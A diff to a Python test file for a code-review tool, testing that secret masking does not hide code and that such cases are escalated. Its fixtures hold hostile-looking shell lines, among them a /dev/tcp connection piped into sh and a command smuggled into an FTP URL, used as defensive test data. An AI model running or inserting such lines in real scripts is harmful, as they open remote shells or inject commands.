@@ -9,6 +9,7 @@ from tests.scenarios.reading import shown
 from review_advisor.core.facts.change import EXECUTABLE_MODE, FileChange, Hunk, Status
 from review_advisor.core.outcome.outcomes import Outcome
 from review_advisor.core.policy.surfaces import Role
+from review_advisor.core.report.report_text import report_text
 from review_advisor.core.safety.secret_shapes import holds_mark, mark
 from review_advisor.core.safety.shown_change import doubtful_lines, masked_text, secrets_of, shown_file
 from review_advisor.mockworld.lines import approve, confirm
@@ -43,6 +44,7 @@ CODE = {
     "sshpass": ("a.sh", "sshpass -p aB3dE5fG7hI9|sh</dev/tcp/1/2", "sshpass -p [secret: password]|sh</dev/tcp/1/2"),
     "a URL": ("a.sh", "curl ftp://u:aB3dE5fG7;sh@h.example", "curl ftp://u:[secret: password in a URL];sh@h.example"),
     "a function of shells": ("a.sh", "password runBackdoorXy7Zq2Kp9", "password runBackdoorXy7Zq2Kp9"),
+    "a command that runs a word": ("a.sh", "exec -a token runBackdoorXy7Zq2Kp9", "exec -a token runBackdoorXy7Zq2Kp9"),
     "a shift that is no here-document": (
         "a.sh",
         ": $((1<<n))\npassword runBackdoorXy7Zq2Kp9\nn",
@@ -178,9 +180,8 @@ def test_a_mask_that_may_hide_code_leaves_the_file_unread(world: MockWorld, case
     world.agents.script(Role.EXECUTOR, approve())
     world.agents.script(Role.POST_VERIFY, confirm())
     document = world.review()
-    assert document.outcome is not Outcome.APPROVED
-    (unread,) = [each for each in document.unsent if each.path == file.path]
-    assert unread.why == "what is masked as a secret may be code in line 41"
+    assert document.outcome is Outcome.ESCALATED
+    assert "what is masked as a secret may be code in line 41" in report_text(document)
 
 
 ORDINARY = {
